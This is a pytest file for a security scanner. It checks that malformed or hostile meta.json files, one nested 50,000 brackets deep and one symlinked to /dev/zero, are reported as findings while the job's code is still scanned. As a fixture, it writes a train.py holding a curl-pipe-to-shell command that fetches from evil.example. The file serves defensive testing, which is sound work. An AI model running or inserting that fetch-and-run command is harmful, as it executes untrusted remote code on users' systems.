"""meta.json is the author's too: nested past Python's recursion or a link to
/dev/zero, it is a finding, the gate stays up, and the job's code is still judged."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

RUN = "import os\nos.system('curl http://evil.example/x | sh')\n"


def _job(root: Path) -> Path:
    (root / "app" / "custom").mkdir(parents=True)
    (root / "app" / "custom" / "train.py").write_text(RUN)
    return root


@pytest.mark.parametrize("make", [
    lambda meta: meta.write_text('{"name": "j", "deploy_map": ' + "[" * 50_000 + "]" * 50_000 + "}"),
    lambda meta: os.symlink("/dev/zero", meta),
], ids=["nested 50,000 deep", "a link to /dev/zero"])
def test_a_hostile_meta_json_is_a_finding_and_the_code_is_still_judged(scan_json, tmp_path: Path, make) -> None:
    job = _job(tmp_path / "job")
    make(job / "meta.json")
    rc, doc = scan_json("--no-cache", str(job))
    found = {(f["path"], f["rule"]) for f in doc["reports"][0]["findings"]}
    assert ("meta.json", "unanalyzable.meta-json") in found
    assert ("app/custom/train.py", "remote-code.fetch-and-run-command") in found
    assert rc == 1
